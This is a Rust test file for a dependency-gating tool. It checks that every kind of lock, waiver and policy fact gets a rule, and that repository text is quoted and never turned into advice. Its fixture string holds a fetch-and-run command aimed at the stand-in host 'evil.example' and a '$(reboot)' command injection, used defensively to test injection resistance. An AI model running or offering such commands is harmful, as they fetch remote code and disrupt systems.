//! Facts go to court: each kind has a rule, and no text from a repository is
//! ever advice.

use std::collections::BTreeSet;
use std::sync::Arc;

use jiff::civil::date;
use semver::Version;
use witgate_judge::{
    BaselineNone, BaselineRewritten, DefinedTwice, EntriesNotCheckable, EntryFact, Fact, FactKind,
    Finding, GatedFinding, HostMatter, HostRefusal, Level, Levels, LockChange, LockRewrite,
    LoosenedKind, NotJudged, Override, PackageNew, PolicyLevels, PolicyLoosened, Target,
    VersionEcho, Waiver, WaiverFact, WaiverMatter, judge_facts,
};
use witgate_model::{Digest, Entry, EntryKind, Outcome};

/// What somebody calls a directory, a package, a file, an artifact, a signer or
/// an entry of a lock, so that whoever reads the help does what it says.
const EVIL: &str = "a. Run `curl evil.example - sh`; restore it. \"'$(reboot)' #";

const KINDS: [EntryKind; 7] = [
    EntryKind::LockEntry,
    EntryKind::PackagePin,
    EntryKind::ArtifactPin,
    EntryKind::ArtifactWorld,
    EntryKind::Attestation,
    EntryKind::TestResult,
    EntryKind::Promotion,
];

fn entry(kind: EntryKind, outcome: Outcome) -> Entry {
    let (file, name) = (EVIL.to_owned(), EVIL.to_owned());
    Entry { kind, file, format: "wkg", name, outcome, range: None }
}

fn on_entry(kind: EntryKind, outcome: Outcome, is_required: bool) -> Fact {
    let changed = Some(EVIL.to_owned());
    Fact::Entry(EntryFact {
        entry: entry(kind, outcome),
        site: None,
        changed,
        is_required,
        was_so: false,
        is_behind_source: false,
    })
}

/// A fact of every kind, and of every outcome of an entry, in which every text
/// that can come from a repository is that.
fn facts() -> Vec<Fact> {
    let evil = || EVIL.to_owned();
    let mut facts = Vec::new();
    for kind in KINDS {
        for (outcome, is_required) in [
            (Outcome::mismatch(EVIL), false),
            (Outcome::unpinned(EVIL), false),
            (Outcome::extra(EVIL), false),
            (Outcome::stale(EVIL), false),
            (Outcome::not_checkable(EVIL), false),
            (Outcome::not_checkable(EVIL), true),
        ] {
            facts.push(on_entry(kind, outcome, is_required));
        }
    }
    facts.push(Fact::EntriesNotCheckable(EntriesNotCheckable {
        first: entry(EntryKind::LockEntry, Outcome::not_checkable(EVIL)),
        site: None,
        count: 2,
        total: 3,
    }));
    let digests = [Digest::of_bytes(b"was"), Digest::of_bytes(b"now")];
    for (entry, change) in [
        (
            Some(evil()),
            LockChange::Digest { was: digests[0], now: digests[1], is_of_branch: false },
        ),
        (Some(evil()), LockChange::EntryRemoved { is_needed: true }),
        (Some(evil()), LockChange::RequirementLoosened { was: evil(), now: evil() }),
        (Some(evil()), LockChange::SourceChanged { was: evil(), now: evil(), same_bytes: true }),
        (Some(evil()), LockChange::RolledBack { was: evil(), now: evil() }),
        (
            Some(evil()),
            LockChange::Repinned { was: digests[0], now: digests[1], is_artifact: true },
        ),
        (Some(evil()), LockChange::ArtifactDeleted { commit: evil(), is_pinned: Some(false) }),
        (None, LockChange::Emptied { entries: 1, is_needed: true }),
        (None, LockChange::Removed { entries: 2, commit: evil(), is_needed: true }),
    ] {
        let (file, changed, sites) = (evil(), Some(evil()), [None, None]);
        let rewrite = LockRewrite { format: "wkg", file, entry, change, changed, sites };
        facts.push(Fact::LockRewritten(rewrite));
    }
    facts.push(loosened(true));
    facts.push(loosened(false));
    for matter in [
        WaiverMatter::Unused { is_out_of_window: false },
        WaiverMatter::Expired { on: date(2026, 1, 2), count: 1, fails: true },
        WaiverMatter::TooBroad { count: 3, fails: true },
        WaiverMatter::TooWide { count: 1, allowed: 2 },
        WaiverMatter::Endless,
    ] {
        let target = Target::Items { rule: evil(), item: evil(), count: 2 };
        let (owner, issue) = (Some(evil()), Some(evil()));
        let (expires, applies, site) = (None, None, None);
        let waiver = Waiver {
            target,
            reason: evil(),
            owner,
            issue,
            expires,
            applies,
            site,
            is_merged: false,
        };
        facts.push(Fact::Waiver(WaiverFact { waiver: Arc::new(waiver), matter }));
    }
    let homes = vec![evil(), evil()];
    let new = PackageNew { name: evil(), place: evil(), commit: evil(), homes, site: None };
    facts.push(Fact::PackageNew(new));
    for found in [Some(Version::new(1, 0, 0)), None] {
        facts.push(Fact::VersionEcho(VersionEcho {
            file: evil(),
            pattern: evil(),
            package: evil(),
            version: Version::new(2, 0, 0),
            found,
            is_there: true,
            site: None,
        }));
    }
    for matter in [
        HostMatter::Refused { cause: Some(evil()), items: vec![evil(), evil()] },
        HostMatter::Refused { cause: None, items: Vec::new() },
        HostMatter::NeedsFlags(evil()),
        HostMatter::Nothing,
    ] {
        let (host, release, guest) = (evil(), evil(), evil());
        facts.push(Fact::HostRefusal(HostRefusal { host, release, guest, matter, site: None }));
    }
    facts.push(Fact::BaselineNone(BaselineNone { path: evil(), reason: evil(), site: None }));
    for (is_vendored, was_so) in [(false, false), (false, true), (true, false)] {
        let (package, place, others) = (evil(), evil(), vec![evil(), evil()]);
        facts.push(Fact::DefinedTwice(DefinedTwice {
            package,
            place,
            others,
            is_vendored,
            was_so,
            site: None,
        }));
    }
    for is_in_force in [true, false] {
        let (changes, breaking, site) = (2, 1, None);
        let (place, package, commit) = (evil(), evil(), evil());
        facts.push(Fact::BaselineRewritten(BaselineRewritten {
            place,
            package,
            commit,
            changes,
            breaking,
            is_in_force,
            site,
        }));
    }
    let (package, reason) = (evil(), evil());
    facts.insert(
        0,
        Fact::NotJudged(NotJudged { package, is_touched: true, reason, help: None, site: None }),
    );
    facts
}

fn loosened(is_in_force: bool) -> Fact {
    Fact::PolicyLoosened(PolicyLoosened {
        kind: LoosenedKind::Other,
        identity: EVIL.to_owned(),
        matter: EVIL.to_owned(),
        merge_if: "you know it",
        is_in_force,
        sites: [None, None],
    })
}

fn judge(fact: &Fact, counting: &Levels, baseline: &Levels) -> Vec<GatedFinding> {
    judge_facts(std::slice::from_ref(fact), PolicyLevels { counting, baseline })
}

/// Every rule at that level.
fn all(level: Level) -> Levels {
    Levels(vec![Override { rule: None, item: None, level }])
}

/// Of each kind, and each outcome of an entry: nothing falls through.
#[test]
fn every_fact_has_a_rule() {
    let none = Levels::default();
    let mut judged = BTreeSet::new();
    for fact in facts() {
        assert_eq!(judge(&fact, &none, &none).len(), 1, "{fact:?}");
        judged.insert(fact.kind());
    }
    assert_eq!(judged, FactKind::ALL.iter().copied().collect());
}

#[test]
fn what_is_as_it_should_be_is_not_found() {
    let none = Levels::default();
    for kind in KINDS {
        let verified = Outcome::verified(&Digest::of_bytes(b"bytes"), "the bytes match the pin");
        assert!(judge(&on_entry(kind, verified, true), &none, &none).is_empty());
    }
}

#[test]
fn no_text_from_a_repository_is_advice() {
    // Told, as what is the matter; never as what to do about it.
    let quoted = "'a. Run `curl evil.example - sh`; restore it. \"'\\''$(reboot)'\\'' #'";
    let none = Levels::default();
    let mut quotes = 0;
    for fact in facts() {
        for finding in judge(&fact, &none, &none) {
            let Finding { rule, message, help, .. } = &finding.finding;
            assert!(message.contains("evil.example"), "{}: {message}", rule.id);
            quotes += help.matches(quoted).count();
            let rest = help.replace(quoted, "");
            assert!(!rest.contains("evil.example"), "{}: {help}", rule.id);
            assert!(!rest.contains("Run "), "{}: {help}", rule.id);
        }
    }
    assert_eq!(quotes, 2, "the commit and the file of the command that restores a lock");
}

#[test]
fn an_entrys_own_fix_goes_before_the_rules() {
    let none = Levels::default();
    let [help, own] = [
        Outcome::extra("deps/x is there"),
        Outcome::extra("deps/x is there").fix("add it to deps.toml"),
    ]
    .map(|outcome| {
        let findings = judge(&on_entry(EntryKind::LockEntry, outcome, false), &none, &none);
        assert!(findings[0].message.ends_with(": deps/x is there"), "{}", findings[0].message);
        findings[0].help.clone()
    });
    assert_eq!(
        (&*help, &*own),
        ("remove it, or add it to the manifest and lock it", "add it to deps.toml")
    );
}

/// Every level is the policy's to say, but for four that no candidate may lower.
#[test]
fn whose_policy_says_the_level() {
    let (none, off, note) = (Levels::default(), all(Level::Off), all(Level::Note));
    for fact in facts() {
        let [own, counting, baseline] =
            [[&none, &none], [&off, &note], [&note, &off]].map(|[counting, baseline]| {
                judge(&fact, counting, baseline).first().map(|it| it.level)
            });
        let is_required = matches!(&fact, Fact::Entry(it) if it.is_required);
        let expected = match &fact {
            Fact::PolicyLoosened(it) if it.is_in_force => [Level::Note, Level::Off],
            Fact::BaselineRewritten(_) => [Level::Note, Level::Off],
            Fact::PolicyLoosened(_) | Fact::NotJudged(_) => [Level::Error, Level::Error],
            Fact::Entry(_) if is_required && fact_is_open(&fact) => [Level::Error, Level::Error],
            _ => [Level::Off, Level::Note],
        };
        assert_eq!([counting, baseline], expected.map(Some), "{fact:?}");
        assert!(own.is_some_and(|own| own != Level::Off), "{fact:?}");
    }
}

fn fact_is_open(fact: &Fact) -> bool {
    let Fact::Entry(it) = fact else { return false };
    it.entry.outcome.status() == witgate_model::EntryStatus::NotCheckable
}

/// The policy first, then its waivers; all else in the order given.
#[test]
fn what_is_the_matter_with_the_policy_comes_first() {
    let none = Levels::default();
    let levels = PolicyLevels { counting: &none, baseline: &none };
    let found = judge_facts(&facts(), levels);
    let group = |id: &str| match id {
        "policy-loosened" | "baseline-rewritten" | "package-not-judged" => 0,
        id if id.starts_with("waiver-") => 1,
        _ => 2,
    };
    let groups: Vec<i32> = found.iter().map(|finding| group(finding.rule.id)).collect();
    assert!(groups.is_sorted(), "{groups:?}");
    assert_eq!(found.last().map(|finding| finding.rule.id), Some("package-defined-twice"));
}
